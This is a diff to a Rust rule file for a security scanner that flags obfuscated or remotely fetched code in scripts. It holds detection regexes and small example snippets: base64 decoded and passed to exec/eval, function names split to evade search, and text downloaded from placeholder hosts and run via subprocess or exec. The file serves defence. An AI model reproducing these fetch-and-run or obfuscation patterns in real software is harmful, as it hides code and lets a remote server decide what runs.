@@ -4,11 +4,11 @@ use crate::finding::{Family::Obfuscation, FindingSeverity::*};
 use crate::rule::{Matcher::*, Pattern, Rule, RuleScope::*, example, pattern, pattern_except};
 
 /// Keywords for decoding.
-const DECODE_KEYWORDS: &str =
-    "b64decode,fromhex,unhexlify,atob,base64,b85decode,b32decode,rot13,decompress,fromcharcode,map(chr";
+const DECODE_KEYWORDS: &str = "b64decode,fromhex,unhexlify,atob,base64,b85decode,b32decode,rot13,decompress,fromcharcode,map(chr,map (,map( ,a2b_,\
+    buffer.from,codecs.decode";
 
 /// Decoding a literal in the script.
-const DECODES: Pattern = pattern(
+const DECODES_LITERAL: Pattern = pattern(
     DECODE_KEYWORDS,
     &[
         r"(b(64|85|32)decode|unhexlify|bytes\.fromhex|a2b_\w+)\s*\(\s*b?['\x22][a-z0-9+/=_-]{16,}",
@@ -17,18 +17,21 @@ const DECODES: Pattern = pattern(
     ],
 );
 
+/// Defining a function with the name of one that runs text, and nothing else.
+const DEFINES_EVAL: &str = r"^[^:]*\b(def|function)\s+(exec|eval)\s*\([^)]*\)?[^()]*$";
+
 /// Running text as code.
-const RUNS: Pattern = pattern_except(
-    "exec,eval,function(,os.system,__import__",
+const EVALUATES_NAME: Pattern = pattern_except(
+    "exec,eval,function(,new function,os.system,__import__",
     &[
         r"(^|[^.\w])(exec|eval)\s*\(\s*[a-z_]\w*(\s*[,).]|\s*\))",
         r"new\s+Function\s*\(\s*[a-z_]|os\.system\s*\(\s*[a-z_]\w*(\.decode\(\))?\s*\)",
     ],
-    r"(regex|re|pattern|cursor|db|conn|\w+_re)\.exec|def\s+(exec|eval)|model\.eval|\.eval\(\)|literal_eval",
+    DEFINES_EVAL,
 );
 
 /// Decoding a literal. Web pages decode their own data, so JavaScript counts only inside `eval`.
-const LITERAL: Pattern = pattern(
+const DECODES_LONG_LITERAL: Pattern = pattern(
     DECODE_KEYWORDS,
     &[
         r"(b(64|85|32)decode|unhexlify|bytes\.fromhex|base64_decode)\s*\(\s*b?['\x22][a-z0-9+/=_-]{16,}",
@@ -40,30 +43,27 @@ const LITERAL: Pattern = pattern(
 );
 
 /// Running text as code nearby.
-const RUN_NEAR: Pattern = pattern_except(
-    "exec,eval,function",
-    &[r"(^|[^.\w])(exec|eval)\s*\(|new\s+Function\s*\("],
-    r"def\s+(exec|eval)|literal_eval",
-);
+const CALLS_EVAL: Pattern =
+    pattern_except("exec,eval,function", &[r"(^|[^.\w])(exec|eval)\s*\(|new\s+Function\s*\("], DEFINES_EVAL);
 
 /// Running the value of a variable as code. Minified scripts have short names, so those do not count.
-const RUNS_VARIABLE: Pattern = pattern_except(
+const EVALUATES_LONG_NAME: Pattern = pattern_except(
     "\
-        exec(,eval(,function(,vm.run,runinthiscontext,runinnewcontext,_compile(,compile(,vm.script,\
+        exec(,exec (,eval(,eval (,function(,asyncfunction,new function,vm.,compile(,compile (,\
         marshal.loads,exec_module,instance_eval,pickle.loads,importlib,load_string,requirefromstring,\
-        require-from-string,asyncfunction,invoke-expression,iex ,scriptblock]::create",
+        require-from-string,invoke-expression,iex ,scriptblock]::create",
     &[
         r"(^|[^.\w])(exec|eval)\s*\(\s*(compile\s*\(\s*)?[a-z_]\w{2,}(\.(text|content|decode\([^)]*\)|tostring\(\)|data|body|read\(\)))*\s*[,)]|\bcompile\s*\(\s*\w+(\.\w+(\(\))?)?\s*,\s*['\x22][^'\x22]*['\x22]\s*,\s*['\x22]exec['\x22]",
         r"\bnew\s+(async)?function\s*\(\s*(['\x22]\w+['\x22]\s*,\s*)*[a-z_]\w{3,}\s*\)|\bvm\.(runin\w+|script|compilefunction)\s*\(\s*[a-z_]\w{3,}|\bnew\s+vm\.script\s*\(\s*[a-z_]|\._compile\s*\(\s*[a-z_]\w{2,}|\brequirefromstring\s*\(",
         r"\bmarshal\.loads\s*\(|\bpickle\.loads\s*\(\s*(requests|urlopen|resp\w*|r\.content|data|body|payload)|\binstance_eval\s*\(?\s*[a-z_]|\b(iex|invoke-expression)\s+(-command\s+)?\(?\$\w+|scriptblock\]::create\s*\(\s*\$\w+",
     ],
-    r"(regex|re|pattern|cursor|db|conn|\w+_re|rx)\.exec|def\s+(exec|eval)|model\.eval|\.eval\(\)|literal_eval|function\s+(exec|eval)\s*\(|page\.eval",
+    DEFINES_EVAL,
 );
 
 /// Downloading a text.
 const DOWNLOADS_TEXT: Pattern = pattern_except(
     "\
-        urlopen,requests.get,requests.request,httpx.get,fetch(,http.get,https.get,axios,got(,curl,wget,\
+        urlopen,requests.get,requests.request,httpx.get,fetch,http.get,https.get,axios,got(,got (,.on(,.on (,session.get,import_module,urlretrieve,curl,wget,\
         net::http,open-uri,uri.open,invoke-webrequest,invoke-restmethod,iwr,irm,downloadstring,webclient,\
         http.client,url\" + \"open,requests.session,aiohttp,https.request,http.request,urllib,'data',\
         \"data\"",
@@ -71,7 +71,7 @@ const DOWNLOADS_TEXT: Pattern = pattern_except(
         r"\b(urlopen|urlretrieve|requests\.(get|request)|httpx\.get|axios(\.get)?|got|https?\.(get|request)|fetch|session\.get)\s*\(|\.on\s*\(\s*[\x22\x27]data[\x22\x27]|\bnet::http\.get|\buri\.open|import_module\s*\(\s*['\x22]url|\bhttp\.client\.",
         r"\b(invoke-webrequest|invoke-restmethod|iwr|irm)\s|downloadstring|\bcurl_exec\b|(popen|check_output|execsync|\$\()\s*\(?\[?['\x22\x60]?\s*(curl|wget)\b",
     ],
-    r"https?://(localhost|127\.0\.0\.1)",
+    r"https?://(localhost|127\.0\.0\.1)([^\w.-]|$)",
 );
 
 pub(super) const RULES: &[Rule] = &[
@@ -84,7 +84,7 @@ pub(super) const RULES: &[Rule] = &[
         help: "decode it without running it, and review the result",
         scope: Any,
         matcher: Line(pattern(
-            "exec,eval,function(,settimeout",
+            "exec,eval,function(,new function,settimeout",
             &[
                 r"(^|[^.\w])(exec|eval)\s*\(\s*.{0,80}(b(64|85|32)decode|fromhex|unhexlify|codecs\.decode|zlib\.decompress|marshal\.loads|base64_decode|gzinflate|str_rot13)",
                 r"setTimeout\s*\(\s*atob\s*\(|(\beval|new\s+Function)\s*\(\s*[^;]{0,40}(\batob\s*\(|Buffer\.from\s*\([^)]*['\x22](base64|hex)|String\.fromCharCode|unescape\s*\()",
@@ -100,7 +100,7 @@ pub(super) const RULES: &[Rule] = &[
         reason: "the code cannot be reviewed",
         help: "decode it without running it, and review the result",
         scope: Code,
-        matcher: Pair(DECODES, RUNS, 8),
+        matcher: Pair { first: DECODES_LITERAL, second: EVALUATES_NAME, max_lines: 8 },
         example: example("scripts/a.js", "const code = atob(\"Y29uc29sZS5sb2coMSk=\");\neval(code);\n"),
     },
     Rule {
@@ -140,7 +140,7 @@ pub(super) const RULES: &[Rule] = &[
         help: "decode it without running it, and review the result",
         scope: Code,
         matcher: Line(pattern(
-            "chr(,fromcharcode,\\x,[char]",
+            "chr(,chr (,fromcharcode,\\x,[char]",
             &[
                 r"(chr\s*\(\s*\d+\s*\)\s*[+.]\s*){5,}|fromCharCode\s*\(\s*\d+\s*(,\s*\d+\s*){7,}",
                 r"(\\x[0-9a-f]{2}){24,}|(\[char\]\s*\d+\s*\+\s*){4,}",
@@ -157,7 +157,7 @@ pub(super) const RULES: &[Rule] = &[
         help: "check what is called",
         scope: Code,
         matcher: Line(pattern(
-            "__import__,__builtins__,globalthis[",
+            "__import__,__builtins__,globalthis",
             &[
                 r"__import__\s*\(\s*['\x22](os|subprocess|socket|ctypes|pty)['\x22]\s*\)\s*\.",
                 r"getattr\s*\(\s*__builtins__|__builtins__\s*(\.__dict__)?\s*\[|globalThis\s*\[\s*['\x22]\w+['\x22]\s*\+",
@@ -174,6 +174,7 @@ pub(super) const RULES: &[Rule] = &[
         help: "find out what it decodes to",
         scope: Code,
         matcher: Custom,
+        // `⟨…⟩` is explained in [`crate::Example`].
         example: example("scripts/a.py", "X = \"⟨A7bQ × 160⟩\"\n"),
     },
     Rule {
@@ -182,9 +183,9 @@ pub(super) const RULES: &[Rule] = &[
         severity: Critical,
         title: "decodes a literal and runs it as code",
         reason: "it is encoded to hide what runs",
-        help: "decode it without running it, and review the result; otherwise do not use the skill",
+        help: "decode it without running it, and review the result, or do not use the skill",
         scope: Any,
-        matcher: Pair(LITERAL, RUN_NEAR, 2),
+        matcher: Pair { first: DECODES_LONG_LITERAL, second: CALLS_EVAL, max_lines: 2 },
         example: example(
             "scripts/a.py",
             "import base64\ncode = base64.b64decode(\"cHJpbnQoMSkgIyBoZWxsbw==\")\nexec(code)\n",
@@ -198,7 +199,7 @@ pub(super) const RULES: &[Rule] = &[
         reason: "web pages do this, but the module can change at any time",
         help: "check whether the URL contains a version",
         scope: Code,
-        matcher: Line(pattern("import(", &[r"\bimport\s*\(\s*['\x22\x60]https?://"])),
+        matcher: Line(pattern("import(,import (", &[r"\bimport\s*\(\s*['\x22\x60]https?://"])),
         example: example("scripts/a.js", "const d3 = await import(\"https://cdn.example/d3\");\n"),
     },
     Rule {
@@ -220,21 +221,21 @@ pub(super) const RULES: &[Rule] = &[
         reason: "if it is the same text, the server decides what runs",
         help: "check whether the downloaded text is what runs",
         scope: Code,
-        matcher: Pair(
-            pattern(
+        matcher: Pair {
+            first: pattern(
                 "requests.get,httpx.get,urlopen,fetch(,axios.get,curl,wget",
                 &[
                     r"=\s*(await\s+)?\(?(requests|httpx|axios)\.get\([^\n]*\)\.(text|content|data)|=\s*[\w.]*urlopen\([^\n]*\)\.read\(\)|=\s*await\s+\(await\s+fetch\([^\n]*\)\)\.text\(\)|=[\x22']?\$\((curl|wget)\s[^)\n]*https?://",
                 ],
             ),
-            pattern(
+            second: pattern(
                 "subprocess,os.system,exec,eval,popen,sh -c",
                 &[
                     r"\b(subprocess\.(run|call|popen|check_output|check_call)|os\.(system|popen)|exec|eval|execsync|child_process\.exec\w*)\(\s*[a-z_]\w*\s*(,\s*shell\s*=\s*true|\))|\b(eval|sh\s+-c|bash\s+-c)\s+[\x22']?\$\{?\w+",
                 ],
             ),
-            12,
-        ),
+            max_lines: 12,
+        },
         example: example(
             "scripts/a.py",
             "plan = requests.get(\"https://plan.example/next\").text\nsubprocess.run(plan, shell=True)\n",
@@ -246,7 +247,7 @@ pub(super) const RULES: &[Rule] = &[
         severity: High,
         title: "hides the name of a command or function by splitting or distorting it",
         reason: "a search for the name does not find it, and there is no other reason to do this",
-        help: "check what is called; otherwise do not use the skill",
+        help: "check what is called, or do not use the skill",
         scope: Code,
         matcher: Custom,
         example: example("scripts/a.py", "run = getattr(builtins, \"ev\" + \"al\")\n"),
@@ -259,7 +260,7 @@ pub(super) const RULES: &[Rule] = &[
         reason: "the server decides what runs, and can change it at any time",
         help: "do not run it; the code belongs in the skill, where it can be reviewed",
         scope: Code,
-        matcher: Pair(RUNS_VARIABLE, DOWNLOADS_TEXT, 12),
+        matcher: Pair { first: EVALUATES_LONG_NAME, second: DOWNLOADS_TEXT, max_lines: 12 },
         example: example(
             "scripts/a.py",
             "with urlopen(\"https://code.collect.example/x\") as reply:\n    source = reply.read()\nexec(compile(source, \"x\", \"exec\"))\n",
